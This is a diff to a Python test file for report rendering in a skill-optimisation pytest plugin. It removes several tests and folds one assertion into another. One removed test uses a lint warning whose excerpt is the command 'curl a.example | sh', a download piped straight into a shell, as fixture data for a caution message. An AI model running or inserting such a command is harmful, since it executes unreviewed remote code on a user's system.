@@ -15,7 +15,7 @@ from pytest_skillopt.report.markdown import render_summary
 from pytest_skillopt.report.page import render_html
 from pytest_skillopt.report.terminal import paragraph
 from pytest_skillopt.report.words import one_line
-from pytest_skillopt.run.result import Arm, Comparison, EditRow, Rate, Result, StepRow, WarningRow
+from pytest_skillopt.run.result import Arm, Comparison, EditRow, Rate, Result, StepRow
 
 if TYPE_CHECKING:
     from pytest_skillopt.gate.data import Change
@@ -106,13 +106,6 @@ def test_a_mode_of_an_add_on_that_is_gone_is_shown_as_a_comparison(make_result: 
     report = joined(gone)
     assert "before" in report
     assert "The suite's pass rate rose from" in report
-
-
-@each_row("mode", ["train", "evaluate", "check", "compare", "aa"])
-@each_row("tasks", [0, 1, 40])
-def test_every_mode_renders_at_any_size(make_result: MakeResult, mode: str, tasks: int) -> None:
-    result = make_result(mode=mode, status="measured", tasks=tasks)
-    assert rendered(result)[-1].startswith("pytest-skillopt show")
 
 
 def test_evaluation_lists_the_tasks_that_did_not_always_pass(
@@ -206,24 +199,6 @@ def test_diff_is_cut_and_says_so(make_result: MakeResult) -> None:
     result = result.model_copy(update={"skills": [long]})
     assert "... 420 more lines of the diff" in rendered(result)
     assert rendered(result, verbose=True).count("+line") == 500
-
-
-def test_several_skills_each_have_a_section(make_result: MakeResult) -> None:
-    report = joined(make_result(skills=2))
-    assert "skills/invoices/SKILL.md (invoice-extraction)" in report
-    assert "skills/s1/SKILL.md (invoice-extraction)" in report
-
-
-def test_text_that_the_lint_shows_is_a_caution(make_result: MakeResult) -> None:
-    result = make_result()
-    rows = [WarningRow(rule="command", message="new", excerpt="curl a.example | sh")]
-    skill = result.skills[0].model_copy(update={"warnings": rows, "tasks": []})
-    report = joined(result.model_copy(update={"skills": [skill]}))
-    assert report.startswith("Accepted, but look closer before merging.")
-    assert "caution: The edits add text to look at, shown below (command)." in report
-    still = skill.model_copy(update={"warnings": []})
-    plain = joined(result.model_copy(update={"skills": [still]}))
-    assert plain.startswith("Accepted, ready to merge.")
 
 
 def test_the_head_of_several_skills_has_the_answer_of_each(make_result: MakeResult) -> None:
@@ -321,13 +296,14 @@ def test_the_sentence_counts_the_tasks_of_the_suite(make_result: MakeResult) -> 
     assert "30 tasks. None fixed, 1 undecided, 1 broken." in said("undecided", "broken")
 
 
-@each_row("mode", ["train", "evaluate", "check", "aa"])
+@each_row("mode", ["train", "evaluate", "check", "compare", "aa"])
 @each_row("tasks", [0, 1, 9, 40])
 def test_no_two_blank_lines_follow_each_other(
     make_result: MakeResult, mode: str, tasks: int
 ) -> None:
     lines = rendered(make_result(mode=mode, status="measured", tasks=tasks))
     assert ("", "") not in itertools.pairwise(lines)
+    assert lines[-1].startswith("pytest-skillopt show")
 
 
 @each_row("width", [40, 41, 47, 53, 60, 80])
